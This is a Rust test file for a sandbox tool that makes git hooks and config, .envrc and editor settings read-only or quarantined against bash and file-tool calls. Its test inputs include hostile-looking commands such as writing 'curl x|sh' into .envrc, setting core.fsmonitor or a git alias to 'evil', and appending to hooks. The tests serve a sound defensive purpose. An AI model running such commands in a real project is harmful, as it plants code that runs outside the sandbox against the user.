//! Protected paths: what would run code outside the sandbox the next time the user works in
//! the project (git hooks and config, `.envrc`, editor settings) is read-only to bash and
//! refused to the file tools, through every front door; `--unprotect` relaxes one path.

use serde_json::json;

use crate::util::{Cordon, Live};

/// A workspace holding a git repository with one commit, a hook and editor settings.
pub(crate) fn repository() -> Cordon {
    let c = Cordon::new();
    let hook = c.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    c.write(".vscode/settings.json", "{}\n");
    c.write("a.txt", "one\n");
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
            .args(args)
            .current_dir(c.root())
            .output()
            .expect("run git");
        assert!(out.status.success(), "git {args:?}: {out:?}");
    };
    git(&["init", "-q", "."]);
    git(&["add", "a.txt"]);
    git(&["commit", "-q", "-m", "one"]);
    c
}

/// The contents of every protected file of [`repository`], to check that nothing changed.
pub(crate) fn protected_contents(c: &Cordon) -> Vec<String> {
    [
        ".git/hooks/pre-commit",
        ".git/config",
        ".vscode/settings.json",
        ".git/info/exclude",
    ]
    .iter()
    .map(|p| c.read(p))
    .collect()
}

#[test]
fn bash_sees_protected_paths_read_only_and_says_how_to_relax_them() {
    let c = repository();
    let before = protected_contents(&c);
    let run = c.call(
        "bash",
        json!({"command": "echo x >> .git/hooks/pre-commit; git config core.fsmonitor evil; \
                          echo '{\"evil\": 1}' > .vscode/settings.json; echo 'curl x|sh' > .envrc; \
                          mkdir .idea; ln -s /tmp .devcontainer; echo x > .git/info/exclude; exit 0"}),
    );
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout
            .contains(".git/hooks/pre-commit: Read-only file system"),
        "{run:?}"
    );
    assert!(
        run.stdout
            .contains("could not write config file .git/config"),
        "{run:?}"
    );
    assert!(
        run.stdout
            .contains("[cordon: protected paths are read-only to bash ("),
        "{run:?}"
    );
    assert!(
        run.stdout.contains("allow one with --unprotect PATH]"),
        "{run:?}"
    );
    assert_eq!(protected_contents(&c), before);
    // What the command made of the missing ones is set aside, and said so.
    for (missing, what) in [
        (".envrc", "made by this command"),
        (".idea", "made by this command"),
        (".devcontainer", "a link made by this command"),
    ] {
        assert!(
            std::fs::symlink_metadata(c.path(missing)).is_err(),
            "{missing} exists"
        );
        let aside = format!("{missing}.cordon-quarantine");
        assert!(std::fs::symlink_metadata(c.path(&aside)).is_ok(), "{aside}");
        let notice = format!("[cordon: quarantined {missing}, {what}, as {aside}: ");
        assert!(run.stdout.contains(&notice), "{notice}\n{run:?}");
    }
    assert!(
        run.stdout.contains(
            "as .envrc.cordon-quarantine: direnv runs it when you enter the directory; to keep \
             such changes, allow them with --unprotect .envrc]"
        ),
        "{run:?}"
    );
}

/// Protection puts nothing in the workspace: a protected path that is missing shows neither
/// in the user's workspace while a command runs nor in the command's listings and archives.
#[test]
fn protection_puts_nothing_in_the_workspace() {
    let c = repository();
    std::fs::remove_dir_all(c.path(".vscode")).unwrap();
    let child = c.spawn(&[
        "call",
        "bash",
        r#"{"command": "ls -A; tar cf - . | tar tf - | grep -c envrc; sleep 1"}"#,
    ]);
    std::thread::sleep(std::time::Duration::from_millis(500));
    let mut names: Vec<String> = std::fs::read_dir(c.root())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(names, [".git", "a.txt"], "while the command runs");
    assert_eq!(stdout, ".git\na.txt\n0\n", "{out:?}");
    // The file tools say what they said before any call.
    let run = c.call("write_file", json!({"path": ".envrc", "content": "x"}));
    assert!(
        run.stdout
            .starts_with(".envrc cannot be written: .envrc is protected"),
        "{run:?}"
    );
}

#[test]
fn git_still_commits_branches_and_stashes() {
    let c = repository();
    let run = c.call(
        "bash",
        json!({"command": "set -e; export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@x \
                          GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@x; \
                          echo two >> a.txt; git add a.txt; git commit -q -m two; \
                          git checkout -q -b feature; echo three >> a.txt; git stash -q; \
                          git stash list | wc -l; git log --oneline | wc -l; \
                          git init -q nested && test -d nested/.git/hooks && echo nested"}),
    );
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(run.stdout, "1\n2\nnested\n");
    // The new repository's git directory is protected from the next call on.
    let run = c.call(
        "bash",
        json!({"command": "echo x > nested/.git/hooks/post-checkout"}),
    );
    assert!(run.stdout.contains("Read-only file system"), "{run:?}");
}

#[test]
fn the_file_tools_refuse_protected_paths_with_the_rule_and_the_option() {
    let c = repository();
    let before = protected_contents(&c);
    for (tool, input, shown) in [
        (
            "write_file",
            json!({"path": ".git/config", "content": "[core]\n\tfsmonitor = evil\n"}),
            ".git/config",
        ),
        (
            "edit_file",
            json!({"path": ".git/config", "edits": [{"old": "[core]", "new": "[core]\n\tpager = evil"}]}),
            ".git/config",
        ),
        (
            "write_file",
            json!({"path": ".vscode/settings.json", "content": "{\"evil\": 1}\n"}),
            ".vscode",
        ),
        (
            "edit_file",
            json!({"path": ".vscode/settings.json", "edits": [{"old": "{}", "new": "{\"evil\": 1}"}]}),
            ".vscode",
        ),
        (
            "write_file",
            json!({"path": ".git/hooks/post-merge", "content": "#!/bin/sh\n"}),
            ".git/hooks",
        ),
        (
            "write_file",
            json!({"path": ".devcontainer/devcontainer.json", "content": "{}\n"}),
            ".devcontainer",
        ),
    ] {
        let run = c.call(tool, input.clone());
        assert_eq!(run.code, 1, "{tool} {input}: {run:?}");
        assert!(
            run.stdout.contains(&format!("{shown} is protected (")),
            "{tool} {input}: {run:?}"
        );
        assert!(
            run.stdout.contains(&format!(
                "allow it with --unprotect {shown}. Nothing was written."
            )),
            "{tool} {input}: {run:?}"
        );
    }
    assert_eq!(protected_contents(&c), before);
    assert!(!c.path(".devcontainer").exists());
    assert!(!c.path(".git/hooks/post-merge").exists());
    // A link into a protected path is refused as what it leads to.
    std::os::unix::fs::symlink(".git/config", c.path("config-link")).unwrap();
    let run = c.call("write_file", json!({"path": "config-link", "content": "x"}));
    assert!(run.stdout.contains(".git/config is protected ("), "{run:?}");
    // Objects, refs and the rest of the workspace are not protected.
    let run = c.call(
        "write_file",
        json!({"path": "src/.vscode/x", "content": "x"}),
    );
    assert_eq!(run.code, 0, "{run:?}");
}

#[test]
fn unprotect_relaxes_one_path_for_every_tool() {
    let c = repository().with_args(&["--unprotect", ".vscode"]);
    let run = c.call(
        "write_file",
        json!({"path": ".vscode/settings.json", "content": "{\"tab\": 2}\n"}),
    );
    assert_eq!(run.code, 0, "{run:?}");
    let run = c.call(
        "bash",
        json!({"command": "echo '{}' > .vscode/tasks.json && echo x >> .git/hooks/pre-commit"}),
    );
    assert!(
        run.stdout.contains("pre-commit: Read-only file system"),
        "{run:?}"
    );
    assert_eq!(c.read(".vscode/tasks.json"), "{}\n");
    let run = c.call("write_file", json!({"path": ".git/config", "content": "x"}));
    assert!(run.stdout.contains(".git/config is protected ("), "{run:?}");
}

#[test]
fn a_symbolic_link_standing_in_for_a_protected_path_refuses_bash() {
    let c = Cordon::new();
    std::os::unix::fs::symlink("/etc", c.path(".vscode")).unwrap();
    let run = c.call("bash", json!({"command": "echo ran"}));
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stdout
            .contains(".vscode is a symbolic link, and it is a protected path"),
        "{run:?}"
    );
    assert!(run.stdout.contains("--unprotect .vscode"), "{run:?}");
    let c = c.with_args(&["--unprotect", ".vscode"]);
    let run = c.call("bash", json!({"command": "echo ran"}));
    assert_eq!(run.stdout, "ran\n", "{run:?}");
}

/// The same protection, and the same toolchains, through `cordon session` and `cordon mcp`.
#[test]
fn session_and_mcp_refuse_the_same_writes_and_find_the_same_toolchains() {
    let home = tempfile::tempdir().unwrap();
    crate::util::script(&home.path().join(".cargo/bin/cargo"), "cargo 1.95.0-fake");
    let c = repository()
        .with_args(&["--toolchains"])
        .with_env("HOME", home.path())
        .with_env("XDG_CONFIG_HOME", crate::util::config_home())
        .with_env("CARGO_HOME", home.path().join(".cargo"))
        .with_env("RUSTUP_HOME", home.path().join(".rustup"));
    let answers = c.session(format!(
        "{}\n{}\n{}\n",
        json!({"tool": "write_file", "input": {"path": ".git/config", "content": "x"}}),
        json!({"tool": "bash", "input": {"command": "echo x > .git/hooks/pre-push"}}),
        json!({"tool": "bash", "input": {"command": "cargo --version"}}),
    ));
    let output = |a: &serde_json::Value| a["output"].as_str().unwrap_or_default().to_string();
    assert!(
        output(&answers[0]).contains(".git/config is protected ("),
        "{answers:?}"
    );
    assert!(
        output(&answers[1]).contains("Read-only file system"),
        "{answers:?}"
    );
    assert_eq!(output(&answers[2]), "cargo 1.95.0-fake\n", "{answers:?}");

    let call = |id: u32, name: &str, arguments: serde_json::Value| {
        json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
            "params": {"name": name, "arguments": arguments}})
    };
    let answers = c.mcp(&[
        call(
            1,
            "edit_file",
            json!({"path": ".vscode/settings.json",
            "edits": [{"old": "{}", "new": "{\"x\": 1}"}]}),
        ),
        call(2, "bash", json!({"command": "git config alias.st '!evil'"})),
        call(3, "bash", json!({"command": "cargo --version"})),
    ]);
    let text = |a: &serde_json::Value| {
        a["result"]["content"][0]["text"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    assert!(
        text(&answers[0]).contains(".vscode is protected ("),
        "{answers:?}"
    );
    assert!(
        text(&answers[1]).contains("could not write config file"),
        "{answers:?}"
    );
    assert_eq!(text(&answers[2]), "cargo 1.95.0-fake\n", "{answers:?}");
    assert!(!protected_contents(&c)[1].contains("evil"));
    assert_eq!(c.read(".vscode/settings.json"), "{}\n");
}

/// A session keeps its shell between calls, and what each command may not change is
/// what is protected when it starts: a repository the command before made, a missing path
/// the user made, a file the user replaced.
#[test]
fn a_session_protects_what_changed_since_its_last_command() {
    let c = repository();
    let mut session = Live::start(&c);
    let mut bash = |command: &str| session.bash(command);
    assert_eq!(bash("git init -q nested && echo made"), "made\n");
    let out = bash("echo evil > nested/.git/hooks/post-checkout; exit 0");
    assert!(out.contains("Read-only file system"), "{out}");
    assert!(!c.path("nested/.git/hooks/post-checkout").exists());

    // The user makes the missing .envrc between two commands.
    assert!(!c.path(".envrc").exists(), "protection made nothing there");
    c.write(".envrc", "the user's\n");
    let out = bash("echo evil >> .envrc; exit 0");
    assert!(out.contains("Read-only file system"), "{out}");
    assert_eq!(c.read(".envrc"), "the user's\n");

    // The user replaces .git/config: the command sees the new one, and may not change it.
    let fresh = c.write("config.new", "[core]\n\tbare = false\n# fresh\n");
    std::fs::rename(fresh, c.path(".git/config")).unwrap();
    let out = bash("cat .git/config; echo evil >> .git/config; exit 0");
    assert!(out.contains("# fresh"), "{out}");
    assert!(out.contains("Read-only file system"), "{out}");
    assert!(!c.read(".git/config").contains("evil"));
    session.finish();
}

/// The protected-path hint names the path that failed, a nested repository's own included,
/// and comes only when a protected path failed.
#[test]
fn the_hint_names_the_protected_path_that_failed_and_nothing_else() {
    let c = repository();
    let run = c.call(
        "bash",
        json!({"command": "git init -q nested && echo made"}),
    );
    assert_eq!(run.stdout, "made\n", "{run:?}");
    let run = c.call(
        "bash",
        json!({"command": "echo x > nested/.git/config; touch /usr/local/bin/x; exit 0"}),
    );
    assert!(
        run.stdout.ends_with(
            "[cordon: protected paths are read-only to bash (nested/.git/config); allow one \
             with --unprotect PATH]\n"
        ),
        "{run:?}"
    );
    let run = c.call("bash", json!({"command": "touch /usr/local/bin/x; exit 0"}));
    assert!(run.stdout.contains("Read-only file system"), "{run:?}");
    assert!(!run.stdout.contains("[cordon:"), "{run:?}");
}

/// What a command makes of a missing protected path is set aside while the command still
/// runs, as soon as cordon hears of it, not only when the command ends.
#[test]
fn a_protected_path_made_is_set_aside_while_the_command_runs() {
    let c = repository();
    std::fs::remove_dir_all(c.path(".vscode")).unwrap();
    let mut child = c.spawn(&[
        "call",
        "bash",
        r#"{"command": "echo 'curl x | sh' > .envrc; mkdir .vscode; sleep 5; echo done"}"#,
    ]);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(4);
    let aside = |name: &str| c.path(&format!("{name}.cordon-quarantine")).exists();
    while !(aside(".envrc") && aside(".vscode")) && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let running = child.try_wait().unwrap().is_none();
    assert!(running, "the command ended first");
    assert!(aside(".envrc") && aside(".vscode"), "not set aside in time");
    assert!(!c.path(".envrc").exists() && !c.path(".vscode").exists());
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.starts_with("done\n"), "{out:?}");
    for name in [".envrc", ".vscode"] {
        let notice = format!(
            "[cordon: quarantined {name}, made by this command, as {name}.cordon-quarantine: "
        );
        assert!(stdout.contains(&notice), "{notice}\n{out:?}");
    }
    assert_eq!(c.read(".envrc.cordon-quarantine"), "curl x | sh\n");
}
